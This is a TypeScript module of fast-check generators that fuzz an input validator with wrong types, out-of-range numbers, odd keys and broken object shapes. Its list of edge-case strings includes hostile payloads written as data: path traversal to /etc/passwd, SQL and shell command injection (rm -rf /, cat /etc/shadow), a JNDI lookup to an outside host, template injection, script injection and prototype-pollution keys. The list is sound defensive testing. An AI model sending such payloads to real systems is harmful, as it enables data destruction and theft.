import fc from 'fast-check';

/** Texts that have broken other programs: injections, names of prototypes, what terminals obey, odd Unicode, sizes. */
const curiosities = [
  '',
  ' ',
  '\n',
  'a\r\nb',
  '\0',
  '\u001b[2J\u0007',
  '\u202egnp.exe',
  '\ud800',
  '\u2028',
  '\ufeff',
  'ﷺ',
  'İ',
  '😀'.repeat(200),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'undefined',
  'null',
  'NaN',
  'true',
  '1e309',
  '../../../../etc/passwd',
  '%2e%2e%2fetc',
  "'; DROP TABLE runs;--",
  '" OR ""="',
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '| cat /etc/shadow',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it is
  '${jndi:ldap://x.example.com/a}',
  '{{7*7}}',
  '{% $states.input %}',
  '<script>alert(1)</script>',
  '%s%s%n',
  'A'.repeat(5_000),
];

export const text: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...curiosities),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc.string({ maxLength: 300 }),
);

export const textNot = (pattern: RegExp) => text.filter((t) => !pattern.test(t));

/** Any JSON value that is not of this kind. */
export function notA(kind: 'string' | 'number' | 'boolean' | 'array' | 'object'): fc.Arbitrary<unknown> {
  const values: Record<string, fc.Arbitrary<unknown>> = {
    string: text,
    number: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })),
    boolean: fc.boolean(),
    array: fc.array(fc.oneof(text, fc.integer(), fc.constant(null)), { maxLength: 5 }),
    object: fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
    null: fc.constant(null),
  };
  delete values[kind];
  return fc.oneof(...Object.values(values));
}

export const notAWhole = (least: number, most: number) =>
  fc.oneof(
    notA('number'),
    fc.integer({ min: Number.MIN_SAFE_INTEGER, max: least - 1 }),
    ...(most < Number.MAX_SAFE_INTEGER ? [fc.integer({ min: most + 1, max: Number.MAX_SAFE_INTEGER })] : []),
    fc.double({ min: least, max: most, noInteger: true, noNaN: true }),
    fc.constantFrom(1e308, -1e308),
  );

/** Ids of runs and game-days are small letters, digits and `-`. */
export const notAnId = fc.oneof(notA('string'), textNot(/^[a-z0-9][a-z0-9-]{2,63}$/));
export const notATargetId = fc.oneof(notA('string'), textNot(/^[a-z][a-z0-9-]{0,30}$/));

export function notOneOf(values: readonly string[]): fc.Arbitrary<unknown> {
  const one = fc.constantFrom(...values);
  const almost = fc.oneof(
    text,
    one.map((v) => `${v} `),
    one.map((v) => v.toUpperCase()),
  );
  return fc.oneof(
    notA('string'),
    almost.filter((t) => !values.includes(t)),
  );
}

/** A key that nobody expects, among them names that every object seems to have. */
export const strangeKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '', ' ', '\u0000', 'by', 'admin', '$where'),
  text.map((t) => `x${t}`),
);

/** As an own property, also where the name is one that an assignment would not make. */
export function withKey(of: object, key: string, value: unknown): object {
  const copy = { ...of };
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

export function without(of: object, key: string): object {
  return Object.fromEntries(Object.entries(of).filter(([name]) => name !== key));
}

/** The good input with one field changed into something bad, left out, or joined by one too many. */
export interface Shape {
  good: object;
  /** Bad values of each field. */
  bad: Record<string, fc.Arbitrary<unknown>>;
  required: readonly string[];
  /** Whether unknown keys are refused. */
  strict: boolean;
}

export function broken({ good, bad, required, strict }: Shape): fc.Arbitrary<unknown> {
  return fc.oneof(
    ...Object.entries(bad).map(([key, values]) => values.map((value) => withKey(good, key, value))),
    ...required.map((key) => fc.constant(without(good, key))),
    ...(strict ? [fc.tuple(strangeKey, fc.jsonValue({ maxDepth: 2 })).map(([k, v]) => withKey(good, k, v))] : []),
    notA('object'),
  );
}
